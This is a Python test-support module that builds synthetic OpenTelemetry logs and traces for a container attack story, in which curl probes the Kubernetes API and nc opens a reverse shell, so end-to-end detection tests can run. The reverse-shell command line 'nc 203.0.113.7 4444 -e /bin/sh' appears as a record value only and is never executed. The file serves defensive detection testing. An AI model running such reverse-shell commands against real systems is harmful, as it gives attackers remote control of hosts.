"""A hand-built attack story in the otelguard schema (docs/architecture.md#attribute-schema),
as OTLP requests.

One container of deployment ``web`` in namespace ``shop-<run>``: a shell execs ``curl``, which
connects to the Kubernetes API; then ``nc`` opens a reverse shell. The agent's raw events
(stream ``event``) and the processor's detections (stream ``detection``) are separate
Resources, as the processor emits them; the process spans form a tree (bash -> curl, bash -> nc
-> connect). Every run uses a fresh namespace, ids and rule-name suffix, so tests that share a
long-lived Loki or Jaeger never see an earlier run's data.

Built with the protobuf classes the agent uses, so what reaches Loki and Jaeger is what the
real pipeline sends; attribute keys come from :mod:`otelguard.semconv` only.
"""

from __future__ import annotations

import os
import time
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Union

import grpc

from opentelemetry.proto.collector.logs.v1.logs_service_pb2 import ExportLogsServiceRequest
from opentelemetry.proto.collector.logs.v1.logs_service_pb2_grpc import LogsServiceStub
from opentelemetry.proto.collector.trace.v1.trace_service_pb2 import ExportTraceServiceRequest
from opentelemetry.proto.collector.trace.v1.trace_service_pb2_grpc import TraceServiceStub
from opentelemetry.proto.common.v1.common_pb2 import AnyValue, KeyValue
from opentelemetry.proto.logs.v1.logs_pb2 import LogRecord, ResourceLogs
from opentelemetry.proto.resource.v1.resource_pb2 import Resource
from opentelemetry.proto.trace.v1.trace_pb2 import ResourceSpans, Span

from otelguard import semconv as sc

if TYPE_CHECKING:
    from tests.support.stack import Collector

Value = Union[str, int, bool]

SEVERITY_INFO = 9
SEVERITY_WARN = 13
SEVERITY_FATAL = 21  # Falco CRITICAL (docs/architecture.md#detection-records)

KUBE_API_ADDRESS = "10.96.0.1"
REVERSE_SHELL_PEER = "203.0.113.7"  # TEST-NET-3: never routed, only a value in a record


def _kv(key: str, value: Value) -> KeyValue:
    if isinstance(value, bool):
        return KeyValue(key=key, value=AnyValue(bool_value=value))
    if isinstance(value, int):
        return KeyValue(key=key, value=AnyValue(int_value=value))
    return KeyValue(key=key, value=AnyValue(string_value=value))


def _attrs(values: dict[str, Value]) -> list[KeyValue]:
    return [_kv(k, v) for k, v in values.items()]


@dataclass
class Scenario:
    """Ids and names of one run; ``logs()`` / ``traces()`` build the requests."""

    run: str = field(default_factory=lambda: os.urandom(4).hex())
    start_ns: int = field(default_factory=time.time_ns)

    def __post_init__(self) -> None:
        self.namespace = f"shop-{self.run}"
        self.cluster = "e2e"
        self.deployment = "web"
        self.service = "web"
        self.pod = f"web-7d9f-{self.run}"
        self.container_id = (self.run * 8)[:64]
        self.trace_id = bytes.fromhex(self.run * 4)            # 16 bytes, deterministic per run
        self.span_bash = bytes.fromhex(self.run + "00000001")
        self.span_curl = bytes.fromhex(self.run + "00000002")
        self.span_nc = bytes.fromhex(self.run + "00000003")
        self.span_connect = bytes.fromhex(self.run + "00000004")
        self.rule_kube_api = f"Contact K8S API Server From Container {self.run}"
        self.rule_reverse_shell = f"Reverse shell {self.run}"

    @property
    def trace_id_hex(self) -> str:
        return self.trace_id.hex()

    def resource(self, stream: str) -> list[KeyValue]:
        return _attrs({
            sc.SERVICE_NAME: self.service, sc.K8S_CLUSTER_NAME: self.cluster,
            sc.K8S_NAMESPACE_NAME: self.namespace, sc.K8S_DEPLOYMENT_NAME: self.deployment,
            sc.K8S_POD_NAME: self.pod, sc.K8S_CONTAINER_NAME: "web",
            sc.K8S_NODE_NAME: "node-1", sc.CONTAINER_ID: self.container_id,
            sc.HOST_NAME: "node-1", sc.OS_TYPE: "linux", sc.STREAM: stream,
        })

    def _t(self, offset_ms: int) -> int:
        return self.start_ns + offset_ms * 1_000_000

    def _event(self, name: str, offset_ms: int, span: bytes, body: str,
               attrs: dict[str, Value]) -> LogRecord:
        rec = LogRecord(time_unix_nano=self._t(offset_ms), observed_time_unix_nano=self._t(offset_ms + 1),
                        severity_number=SEVERITY_INFO,  # type: ignore[arg-type]
                        trace_id=self.trace_id, span_id=span,
                        event_name=name, attributes=_attrs(attrs))
        rec.body.string_value = body
        return rec

    def _detection(self, rule: str, severity: int, priority: str, offset_ms: int, span: bytes,
                   tactic: str, technique: str, evidence: dict[str, Value]) -> LogRecord:
        rec = LogRecord(time_unix_nano=self._t(offset_ms), observed_time_unix_nano=self._t(offset_ms + 2),
                        severity_number=severity, severity_text=priority,  # type: ignore[arg-type]
                        trace_id=self.trace_id, span_id=span, event_name=sc.EV_DETECTION,
                        attributes=_attrs({
                            sc.SECURITY_RULE_NAME: rule, sc.SECURITY_RULE_CATEGORY: tactic,
                            sc.SECURITY_RULE_RULESET_NAME: "otelguard-e2e",
                            sc.SECURITY_RULE_PRIORITY: priority,
                            sc.THREAT_TACTIC_NAME: tactic, sc.THREAT_TECHNIQUE_ID: technique,
                            **evidence,
                        }))
        rec.body.string_value = f"{rule}: {evidence.get(sc.PROCESS_EXECUTABLE_NAME, '')} in {self.pod}"
        return rec

    def logs(self) -> ExportLogsServiceRequest:
        curl: dict[str, Value] = {sc.PROCESS_PID: 4242, sc.PROCESS_PARENT_PID: 4200, sc.PROCESS_EXECUTABLE_NAME: "curl",
                sc.PROCESS_EXECUTABLE_PATH: "/usr/bin/curl",
                sc.PROCESS_COMMAND_LINE: f"curl -k https://{KUBE_API_ADDRESS}/api"}
        nc: dict[str, Value] = {sc.PROCESS_PID: 4300, sc.PROCESS_PARENT_PID: 4200, sc.PROCESS_EXECUTABLE_NAME: "nc",
              sc.PROCESS_EXECUTABLE_PATH: "/usr/bin/nc",
              sc.PROCESS_COMMAND_LINE: f"nc {REVERSE_SHELL_PEER} 4444 -e /bin/sh"}
        events = ResourceLogs(resource=Resource(attributes=self.resource(sc.STREAM_EVENT)))
        sl = events.scope_logs.add()
        sl.scope.name, sl.scope.version = sc.SCOPE_AGENT, "e2e"
        sl.log_records.extend([
            self._event(sc.EV_PROCESS_EXEC, 0, self.span_curl, "exec /usr/bin/curl", curl),
            self._event(sc.EV_NETWORK_CONNECT, 5, self.span_curl, f"connect {KUBE_API_ADDRESS}:443",
                        {**curl, sc.NETWORK_TRANSPORT: "tcp", sc.NETWORK_PEER_ADDRESS: KUBE_API_ADDRESS,
                         sc.NETWORK_PEER_PORT: 443}),
            self._event(sc.EV_PROCESS_EXEC, 10, self.span_nc, "exec /usr/bin/nc", nc),
        ])
        detections = ResourceLogs(resource=Resource(attributes=self.resource(sc.STREAM_DETECTION)))
        dl = detections.scope_logs.add()
        dl.scope.name, dl.scope.version = sc.SCOPE_PROCESSORS, "e2e"
        dl.log_records.extend([
            self._detection(self.rule_kube_api, SEVERITY_WARN, "NOTICE", 6, self.span_curl,
                            "discovery", "T1613",
                            {**curl, sc.NETWORK_PEER_ADDRESS: KUBE_API_ADDRESS, sc.NETWORK_PEER_PORT: 443}),
            self._detection(self.rule_reverse_shell, SEVERITY_FATAL, "CRITICAL", 12, self.span_nc,
                            "execution", "T1059.004",
                            {**nc, sc.NETWORK_PEER_ADDRESS: REVERSE_SHELL_PEER, sc.NETWORK_PEER_PORT: 4444}),
        ])
        return ExportLogsServiceRequest(resource_logs=[events, detections])

    def _span(self, name: str, span_id: bytes, parent: bytes, start_ms: int, end_ms: int,
              kind: int, attrs: dict[str, Value]) -> Span:
        return Span(trace_id=self.trace_id, span_id=span_id, parent_span_id=parent, name=name,
                    kind=kind,  # type: ignore[arg-type]
                    start_time_unix_nano=self._t(start_ms), end_time_unix_nano=self._t(end_ms),
                    attributes=_attrs(attrs))

    def traces(self) -> ExportTraceServiceRequest:
        """The process tree: bash -> curl, bash -> nc -> connect; the reverse shell's span
        carries the rule name, as the processor sets it, so Jaeger can search by it."""
        rs = ResourceSpans(resource=Resource(attributes=self.resource(sc.STREAM_EVENT)))
        ss = rs.scope_spans.add()
        ss.scope.name, ss.scope.version = sc.SCOPE_AGENT, "e2e"
        ss.spans.extend([
            self._span("exec bash", self.span_bash, b"", -100, 50, Span.SPAN_KIND_INTERNAL,
                       {sc.PROCESS_PID: 4200, sc.PROCESS_EXECUTABLE_NAME: "bash"}),
            self._span("exec curl", self.span_curl, self.span_bash, 0, 8, Span.SPAN_KIND_INTERNAL,
                       {sc.PROCESS_PID: 4242, sc.PROCESS_EXECUTABLE_NAME: "curl",
                        sc.SECURITY_RULE_NAME: self.rule_kube_api}),
            self._span("exec nc", self.span_nc, self.span_bash, 10, 40, Span.SPAN_KIND_INTERNAL,
                       {sc.PROCESS_PID: 4300, sc.PROCESS_EXECUTABLE_NAME: "nc",
                        sc.SECURITY_RULE_NAME: self.rule_reverse_shell}),
            self._span("connect", self.span_connect, self.span_nc, 11, 39, Span.SPAN_KIND_CLIENT,
                       {sc.NETWORK_TRANSPORT: "tcp", sc.NETWORK_PEER_ADDRESS: REVERSE_SHELL_PEER,
                        sc.NETWORK_PEER_PORT: 4444}),
        ])
        return ExportTraceServiceRequest(resource_spans=[rs])


def send(collector: "Collector", scenario: Scenario) -> None:
    """OTLP/gRPC into the Collector, as the processor service sends (logs, then spans)."""
    with grpc.insecure_channel(collector.otlp_grpc) as channel:
        LogsServiceStub(channel).Export(scenario.logs(), timeout=10)  # type: ignore[no-untyped-call]
        TraceServiceStub(channel).Export(scenario.traces(), timeout=10)  # type: ignore[no-untyped-call]
